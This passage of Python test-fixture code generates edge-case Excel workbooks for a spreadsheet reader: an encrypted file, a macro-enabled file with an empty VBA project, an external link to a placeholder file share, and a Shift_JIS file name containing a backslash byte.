        def now(cls, tz: dt.tzinfo | None = None) -> _FixedClock:
            return cls(2025, 4, 1, 9, 0, 0)

    # Seed msoffcrypto's salts and keys and fix its clock, so that the file is the same every time.
    rng = random.Random(20250401)
    out = io.BytesIO()
    with (
        mock.patch.object(ecma376_agile, "_random_buffer", rng.randbytes),
        mock.patch.object(ecma376_encrypted, "datetime", _FixedClock),
    ):
        OOXMLFile(io.BytesIO(base)).encrypt("pass", out)
    return out.getvalue()


@_kind("macros.xlsm", "has-macros")
def macros(base: bytes, *, by_part: bool = False) -> bytes:
    """A macro-enabled workbook with a VBA project (a warning: macros are never run). Its content type is declared
    for the .bin extension, as Excel does, or ``by_part`` for the project's part alone, as some tools do."""
    parts = _parts(base)
    parts["xl/vbaProject.bin"] = _cfb({"PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\n'})
    office = "http://schemas.microsoft.com/office/2006/relationships"  # Excel's own type for a VBA project
    _add_relationship(parts, "xl/_rels/workbook.xml.rels", "vbaProject", "vbaProject.bin", namespace=office)
    types = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    declared = b'PartName="/xl/vbaProject.bin"' if by_part else b'Extension="bin"'
    kind = b"Override" if by_part else b"Default"
    parts["[Content_Types].xml"] = _insert_before(
        types, b"</Types>", b"<" + kind + b" " + declared + b' ContentType="application/vnd.ms-office.vbaProject"/>'
    )
    return _zip(parts)


@_kind("external-link.xlsx", "external-links")
def external_link(base: bytes) -> bytes:
    """A link to another workbook on a file server (a warning: the cached values are used)."""
    parts = _parts(base)
    link = "xl/externalLinks/externalLink1.xml"
    parts[link] = (
        f'<externalLink xmlns="{MAIN_NS}" xmlns:r="{REL_NS}"><externalBook r:id="rId1"><sheetNames>'
        '<sheetName val="政策1"/></sheetNames></externalBook></externalLink>'
    ).encode()
    _add_relationship(
        parts,
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        "externalLinkPath",
        "file:///\\\\server\\share\\other.xlsx",
        external=True,
    )
    rel_id = _add_relationship(parts, "xl/_rels/workbook.xml.rels", "externalLink", "externalLinks/externalLink1.xml")
    _add_override(parts, link, "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml")
    reference = f'<externalReferences><externalReference r:id="{rel_id}"/></externalReferences>'.encode()
    workbook = parts["xl/workbook.xml"]
    at = workbook.index(b"</sheets>") + len(b"</sheets>")
    parts["xl/workbook.xml"] = workbook[:at] + reference + workbook[at:]
    return _zip(parts)


# 工程表.xlsx in Shift_JIS, as a Windows share may hand it over: 表 ends in 0x5C, a backslash in ASCII.
@_kind(b"\x8d\x48\x92\xf6\x95\x5c.xlsx", None)
def shift_jis_name(base: bytes) -> bytes:
    """A valid workbook whose file name is Shift_JIS bytes, not UTF-8."""
    return base
